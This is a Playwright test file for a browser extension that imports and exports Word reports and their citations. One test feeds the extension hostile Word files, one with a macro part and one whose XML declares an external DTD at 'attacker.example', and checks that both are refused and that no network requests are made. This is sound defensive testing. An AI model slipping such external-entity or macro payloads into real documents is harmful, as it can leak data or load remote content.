import type { Page } from '@playwright/test';
import { strToU8 } from 'fflate';
import { makeWord, noteMark, paragraph, picture, run, zoteroCitation } from '../fixtures/make-word';
import { wordMarkdown, wordPart } from '../unit/word/word-text';
import { complaints } from './harness/complaints';
import { dropFiles } from './harness/drop-files';
import { chooseFormat, downloadFrom, openExport } from './harness/export-sheet';
import { expect, test } from './harness/fixtures';
import { dumpLibrary } from './harness/library';

const LAKE = 'https://gauges.example/lake?a=1&b=2#:~:text=61%20cm,by%20noon';

const HALL = { author: [{ family: 'Hall' }], DOI: '10.5555/water.7.31' };
const BOOK = { author: [{ family: 'Weirside' }], title: 'Waters of the Hollow' };

/**
 * Returns a report as Word writes it: a heading, a link, a footnote with a bare address, a picture,
 * and citations of a reference manager.
 */
function colleaguesReport(): Uint8Array {
  const link = `<w:hyperlink r:id="rId7">${run('the gauge')}</w:hyperlink>`;
  return makeWord({
    styles:
      '<w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/></w:style>',
    links: { rId7: LAKE },
    pictures: { rId9: 'lake.png' },
    footnotes: { 2: paragraph('Register of mills, https://mills.example/register') },
    body: [
      paragraph('Lake levels', 'Heading1'),
      paragraph(`${run('The lake rose by noon, says ')}${link}${run('.')}`),
      paragraph(`${run('Three mills stand there.')}${noteMark('footnote', '2')}`),
      paragraph(
        `${run('It fell in May ')}${zoteroCitation([HALL, BOOK], run('(Hall 2020; Weirside 1998)'))}${run('.')}`,
      ),
      paragraph(picture('rId9')),
    ].join(''),
  });
}

const sheet = (panel: Page) => panel.getByRole('dialog');

test('a Word document becomes a report, and goes out as one with the same citations', async ({
  extension,
}) => {
  const panel = await extension.openExtensionPage('sidepanel.html');
  await expect(panel.getByRole('button', { name: 'Import a report…' })).toBeVisible();
  await dropFiles(panel, [{ name: 'from a colleague.docx', content: colleaguesReport() }]);
  await expect(sheet(panel)).toContainText('3 citations on 3 pages');
  await expect(sheet(panel)).toContainText('1 image of the document is left out');
  await expect(sheet(panel)).toContainText('1 work of the reference manager has no address');
  expect(await complaints(panel)).toEqual([]);
  await sheet(panel).getByRole('button', { name: 'Import', exact: true }).click();
  await expect(panel.locator('.report-switch-title')).toHaveText('Lake levels');

  const out = await openExport(panel);
  // Before the preview is a frame: axe cannot look into a frame that runs no script.
  expect(await complaints(panel)).toEqual([]);
  await chooseFormat(out, 'Word (.docx)');
  await out.getByRole('radio', { name: 'Footnotes' }).check();
  // The browser may lay out a frame of its own process only when it comes into view.
  await out.locator('iframe').scrollIntoViewIfNeeded();
  await expect(out.frameLocator('iframe').getByText('Three mills stand there')).toBeVisible();
  const { name, bytes } = await downloadFrom(out);
  expect(name).toMatch(/^Lake-levels-\d{4}-\d\d-\d\d\.docx$/);
  expect(wordPart(bytes, 'word/document.xml').match(/<w:footnoteReference /g)).toHaveLength(3);
  const markdown = await wordMarkdown(bytes);
  expect(markdown).toContain(LAKE);
  expect(markdown).toContain('https://mills.example/register');
  expect(markdown).toContain('https://doi.org/10.5555/water.7.31');
  expect(markdown).toContain('Three mills stand there.[^2]');

  // The document that was written is read as it was handed out.
  await panel.keyboard.press('Escape');
  await dropFiles(panel, [{ name, content: bytes }]);
  await expect(sheet(panel)).toContainText('3 citations on 3 pages');
});

test('a hostile Word document is refused in the language of the user, and nothing is stored or loaded', {
  tag: '@long',
}, async ({ launch }) => {
  const extension = await launch({ language: 'fr' });
  const panel = await extension.openExtensionPage('sidepanel.html');
  await panel.locator('main, h1').first().waitFor();
  const before = await dumpLibrary(panel);
  const asked: string[] = [];
  extension.context.on('request', (request) => asked.push(request.url()));
  const macros = makeWord({
    body: paragraph('Le lac'),
    parts: { 'word/vbaProject.bin': strToU8('Sub') },
  });
  const entities = makeWord({
    body: '',
    parts: {
      'word/document.xml': strToU8('<!DOCTYPE d SYSTEM "http://attacker.example/d.dtd"><d/>'),
    },
  });
  for (const [content, sentence] of [
    [macros, 'contient des macros'],
    [entities, 'est endommagé'],
  ] as const) {
    await dropFiles(panel, [{ name: 'rapport.docx', content }]);
    await expect(sheet(panel).getByText(sentence)).toBeVisible();
    expect(await complaints(panel)).toEqual([]);
    await panel.keyboard.press('Escape');
    await expect(sheet(panel)).toBeHidden();
  }
  expect(await dumpLibrary(panel)).toEqual(before);
  expect(asked.filter((url) => !url.startsWith('chrome-extension:'))).toEqual([]);
});
